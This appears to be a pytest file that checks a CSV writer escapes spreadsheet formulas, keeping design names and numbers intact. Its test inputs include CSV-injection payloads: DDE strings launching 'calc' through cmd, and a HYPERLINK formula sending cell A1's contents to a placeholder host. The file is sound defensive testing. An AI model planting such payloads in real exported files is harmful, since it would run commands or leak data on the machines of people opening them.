"""Cells that a spreadsheet would execute are distinguished from numbers and from the names of our own designs."""

from __future__ import annotations

import csv
import io

import pandas
import pytest

from results.markup.csv_cells import csv_line


def cell(value):
    (read,) = next(csv.reader(io.StringIO(csv_line([value]), newline="")))
    return read


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://x/?"&A1,"see")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "- SUM(A1:A9)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+'file'#A1",
        "-[book]A1",
        "-1\n=1+1",
        "\uff1d1+1",
        "'=1+1",
        "''+mixup",
    ],
)
def test_a_formula_is_made_text_and_can_be_had_back(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["+ mixup", "- refiner", "+ talking_heads + mlp_ratio=2.5", "-1", "1=1", "a@b", "'quoted'"]
)
def test_names_of_designs_and_what_is_no_formula_stay(text):
    assert cell(text) == text


def test_numbers_stay_numbers_for_other_readers():
    values = [-0.42, -3, 1e-05, -1e300, True, None]
    line = csv_line(values)
    assert line == "-0.42,-3,1e-05,-1e+300,true,\n"
    assert list(pandas.read_csv(io.StringIO(line), header=None).iloc[0][:4]) == values[:4]


def test_headers_are_cells_too():
    """Components and paths are named by the sweep."""
    assert csv_line(["variant", "component.=1+1", "=1+1"]) == "variant,component.=1+1,'=1+1\n"
